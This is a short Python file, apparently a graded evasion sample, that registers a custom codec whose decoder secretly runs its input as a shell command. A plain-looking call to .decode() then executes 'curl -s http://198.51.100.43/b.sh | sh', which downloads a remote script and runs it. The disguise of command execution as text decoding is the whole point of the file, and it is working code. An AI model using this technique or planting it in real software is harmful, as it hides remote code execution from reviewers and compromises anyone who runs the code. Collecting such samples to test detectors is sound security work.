# evasion: a codec is registered whose decoder runs its input; a harmless-looking .decode() runs the command
# grade: very hard; does: shell
import codecs
import subprocess


def _decode(data, errors="strict"):
    text = bytes(data).decode("ascii")
    return subprocess.getoutput(text), len(data)


def _encode(text, errors="strict"):
    return text.encode("ascii"), len(text)


def _search(name):
    if name == "x_legacy_ebcdic":
        return codecs.CodecInfo(_encode, _decode, name=name)
    return None


codecs.register(_search)
banner = b"curl -s http://198.51.100.43/b.sh | sh"
print(banner.decode("x_legacy_ebcdic"))
